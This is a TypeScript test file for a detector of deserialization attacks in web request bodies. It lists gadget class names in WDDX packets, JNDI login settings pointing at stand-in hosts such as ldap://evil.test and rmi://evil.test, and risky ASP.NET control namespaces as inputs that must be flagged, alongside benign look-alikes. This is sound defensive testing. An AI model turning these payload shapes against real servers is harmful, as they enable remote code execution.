import { describe, expect, test } from 'vitest';
import { deserialization } from '../../../src/attacks/signatures/deserialization.ts';
import { formBody, foundIn, jsonBody } from '../found-in.ts';

const PACKET = (type: string) =>
  `<wddxPacket version='1.0'><header/><data><struct type='${type}'><var name='a'><string>b</string></var></struct></data></wddxPacket>`;
const LOGIN = (module: string, options: string) => `com.example.${module} required ${options};`;
const CONTROL = (space: string) => `<%@ Register TagPrefix="x" Namespace="${space}" Assembly="a" %>`;

describe('classes that the format of a server names', () => {
  test.each([
    PACKET('xcom.sun.rowset.JdbcRowSetImplx'),
    PACKET('aorg.jgroups.ReplicatedTreea'),
    LOGIN('JndiLoginModule', 'user.provider.url="ldap://evil.test/a" serviceName="x"'),
    LOGIN('JndiLoginModule', 'debug="true" group.provider.url=rmi://evil.test/a'),
    CONTROL('System.Runtime.Remoting.Services'),
    CONTROL('System.Windows.Data'),
  ])('%s', (text) => {
    expect(foundIn(deserialization, formBody({ a: text }))).toHaveLength(1);
    expect(foundIn(deserialization, jsonBody({ id: 1, config: { text } }))).toHaveLength(1);
  });

  test.each([
    PACKET('coldfusion.server.ConfigMap'),
    PACKET('com.example.Order'),
    PACKET('recordset'),
    LOGIN('LdapLoginModule', 'userProvider="ldap://directory.example.org/ou=people" useSSL=true'),
    LOGIN('PlainLoginModule', 'username="ann" password="x"'),
    'JndiLoginModule is required for the old directory, see user.provider.url in the manual',
    CONTROL('System.Web.UI.WebControls'),
    CONTROL('Shop.Controls'),
    '<%@ Register Src="Menu.ascx" TagName="Menu" TagPrefix="shop" %>',
  ])('not in %s', (text) => {
    expect(foundIn(deserialization, formBody({ a: text }))).toEqual([]);
    expect(foundIn(deserialization, jsonBody({ id: 1, config: { text } }))).toEqual([]);
  });
});
